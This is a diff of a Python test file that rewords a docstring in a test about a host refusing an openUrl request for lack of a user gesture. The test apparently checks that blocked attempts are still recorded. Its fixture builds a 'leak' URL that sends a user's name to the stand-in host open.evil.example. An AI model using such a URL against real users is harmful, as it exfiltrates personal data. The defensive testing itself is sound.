@@ -133,8 +133,9 @@ def test_bridge_calls_are_reported_as_plain_json_with_the_paths_they_carry():
 
 
 def test_an_open_url_the_host_refused_for_want_of_the_users_activation_is_still_what_the_block_asked():
-    """On a loaded machine the user's activation can end before the block's click reaches the host
-    (WebKitGTK, the corpus's first pass): the host refuses with no-gesture; the block asked all the same."""
+    """On a loaded machine the simulated user's pointer can have moved on when the block's request
+    reaches the host (WebKitGTK, the corpus's first pass): the host refuses with no-gesture; the
+    block asked all the same."""
     leak = f"https://open.evil.example/d?n={NAME.replace(' ', '%20')}"
     refusal = {"level": "warn", "code": "no-gesture", "message": "openUrl needs a user gesture in this block: ...",
                "detail": {"url": leak}}
